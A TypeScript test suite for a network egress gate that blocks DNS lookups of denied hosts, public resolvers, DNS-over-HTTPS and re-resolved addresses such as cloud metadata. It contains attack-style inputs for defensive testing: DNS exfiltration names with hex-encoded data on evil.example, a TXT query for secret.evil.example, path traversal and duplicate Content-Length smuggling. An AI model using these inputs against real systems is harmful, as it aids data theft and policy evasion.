/**
 * I3, I4, I7: by every way in, no name is looked up before its request is decided on, nothing of DNS gets through as anything else,
 * and what a name leads to is judged anew for each request, on kept connections of either version too.
 */
import assert from 'node:assert/strict'
import { after, before, beforeEach, test } from 'node:test'
import { system } from '../../src/kernel/system.ts'
import { framed, queryFor, TYPE } from '../support/dns.ts'
import { APPROACHES, ask, named, openSession } from '../support/every-client.ts'
import { CARRYING, dialSocks, openEveryWay, routeTo, socksAddress, type EveryWay } from '../support/every-way.ts'
import { askStream } from '../support/http2-agent.ts'
import { openHttp2Upstream, type Http2Upstream } from '../support/http2-upstream.ts'
import { exchangeRaw, readToEnd } from '../support/raw-client.ts'
import { recordNetwork } from '../support/recorded-network.ts'

const API = 'api.example.com'
const ASKED = 'asked.example.com'
const NARROW = 'narrow.example.com'
const DENIED = 'denied.example.com'
const GOOD = '127.77.1.1'
const LOOPBACK = `addresses: ["${GOOD}/32"]`
const POLICY = `version: 1
network:
  rules:
    - {id: api, host: ${API}, action: allow, ${LOOPBACK}}
    - {id: asked, host: ${ASKED}, action: ask, ${LOOPBACK}}
    - {id: narrow, host: ${NARROW}, methods: [GET], paths: ["/open/**"], action: allow, ${LOOPBACK}}
    - {id: denied, host: ${DENIED}, action: deny}
routes:
${[API, ASKED, NARROW].map((host) => `  - {name: ${routeTo('https', host)}, upstream: "https://${host}", ${LOOPBACK}}\n`).join('')}`

const parts = new AsyncDisposableStack()
const network = parts.use(recordNetwork())
let setting: EveryWay
let upstream: Http2Upstream
/** How late it is for the gate: an answer of the DNS is good for a second. */
let lateMs = 0

before(async () => {
  setting = parts.use(await openEveryWay(POLICY, [], { system: { ...system, now: () => Date.now() + lateMs } }))
  upstream = parts.use(await openHttp2Upstream(setting.tls(API), { place: { host: GOOD, port: 443 } }))
})
after(() => parts.disposeAsync())
beforeEach(() => {
  lateMs += 2_000
  network.asked.length = 0
  network.dialled.length = 0
  network.answer = (_host, family) => (family === 4 ? [GOOD] : [])
})

for (const approach of APPROACHES) {
  for (const { why, host, asked, isRouted = true } of [
    { why: 'that a rule denies', host: DENIED, asked: {}, isRouted: false },
    { why: 'that no rule names, with data in its label', host: '7365637265742064617461.evil.example', asked: {}, isRouted: false },
    { why: 'that a rule asks about, with nobody there', host: ASKED, asked: {}, isRouted: false },
    { why: 'of which a rule allows other paths', host: NARROW, asked: { path: '/closed' }, isRouted: false },
    {
      why: 'of which a rule allows other methods',
      host: NARROW,
      asked: { method: 'POST', path: '/open/x', body: 'data' },
      isRouted: false,
    },
    { why: 'whose path could be read in two ways', host: NARROW, asked: { path: '/open/%2e%2e/x' } },
    { why: 'by TRACE', host: API, asked: { method: 'TRACE' } },
    {
      why: 'with two lengths',
      host: API,
      asked: {
        method: 'POST',
        fields: [
          ['Content-Length', '1'],
          ['content-length', '2'],
        ] as const,
        body: 'x',
      },
    },
  ]) {
    if (approach.way === 'route' && !isRouted) continue
    if (approach.version === 'HTTP/2' && why.includes('two lengths')) continue
    test(`I3 ${named(approach)}: a host ${why} is not looked up`, async () => {
      const { status, refused } = await ask(setting, approach, { host, ...asked })
      assert.ok(status >= 400 || refused !== undefined, String(status))
      assert.deepEqual(network.asked, [])
    })
  }

  test(`I3 ${named(approach)}: a host that is allowed is looked up, once for both families, by its own name alone`, async () => {
    assert.equal((await ask(setting, approach, { host: API })).status, 200)
    assert.deepEqual(network.asked, [API, API])
  })
}

const RESOLVERS = [
  '8.8.8.8',
  '1.1.1.1',
  '9.9.9.9',
  '2606:4700:4700::1111',
  'dns.google',
  'cloudflare-dns.com',
  'dns.quad9.net',
  'mozilla.cloudflare-dns.com',
]
for (const host of RESOLVERS) {
  const literal = host.includes(':') ? `[${host}]` : host
  test(`I3 I12 ${host} is no way out, neither by port 53, nor over TLS (853), nor over HTTPS`, async () => {
    const { port, ports } = setting.gate
    for (const at of [53, 853, 443, 5353]) {
      const connect = await exchangeRaw(port, `CONNECT ${literal}:${at} HTTP/1.1\r\nHost: ${literal}:${at}\r\n\r\n`)
      assert.match(connect, /^HTTP\/1\.1 403 /)
      await assert.rejects(setting.dial('SOCKS5', host, at), /SOCKS 2/)
      if (/^[\d.:a-f]+$/.test(host)) await assert.rejects(dialSocks(ports.socks, socksAddress(host), at), /SOCKS 2/)
    }
    const question = queryFor('secret.evil.example', { type: TYPE.TXT }).toString('base64url')
    const overHttps = await exchangeRaw(
      port,
      `GET https://${literal}/dns-query?dns=${question} HTTP/1.1\r\nHost: ${literal}\r\nConnection: close\r\n\r\n`,
    )
    assert.match(overHttps, /^HTTP\/1\.1 403 /)
    assert.deepEqual([network.asked, network.dialled], [[], []])
  })
}

for (const way of CARRYING) {
  test(`I17 ${way}: questions of DNS in the place of TLS or HTTP end the connection, and nobody is dialled`, async () => {
    for (const port of [443, 80]) {
      const socket = await setting.dial(way, API, port)
      socket.write(framed(queryFor('secret.evil.example', { type: TYPE.TXT }), queryFor(API)))
      assert.equal(await readToEnd(socket), '')
    }
    assert.deepEqual([network.asked, network.dialled], [[], []])
  })

  for (const moved of [['127.77.1.2'], [GOOD, '127.77.1.2'], ['10.0.0.1'], ['169.254.169.254'], ['::1']]) {
    test(`I4 I7 ${way}: when the name leads to ${moved.join(' and ')} a kept connection of either version carries no more`, async () => {
      const served = upstream.requests.length
      const { socket } = await setting.open(way, 'https', API)
      const session = openSession(API, await setting.dialTls(way, API, 443, { ALPNProtocols: ['h2'] }))
      let answers = ''
      socket.on('data', (chunk: Buffer) => (answers += chunk.toString()))
      const ended = new Promise((resolve) => socket.once('close', resolve))
      socket.write(`GET /1 HTTP/1.1\r\nHost: ${API}\r\n\r\n`)
      assert.equal((await askStream(session, { ':path': '/1' })).status, 200)
      while (!answers.includes('ok')) await new Promise((resolve) => socket.once('data', resolve))
      assert.equal(upstream.requests.length, served + 2)
      network.answer = (_host, family) => moved.filter((address) => address.includes(':') === (family === 6))
      lateMs += 2_000
      const refused = await askStream(session, { ':path': '/2' })
      assert.match(refused.body, /"code":"address_refused"/)
      socket.write(`GET /2 HTTP/1.1\r\nHost: ${API}\r\nConnection: close\r\n\r\n`)
      await ended
      assert.match(answers, /"code":"address_refused"/)
      session.destroy()
      assert.equal(upstream.requests.length, served + 2)
      assert.deepEqual(network.dialled, [])
    })
  }
}
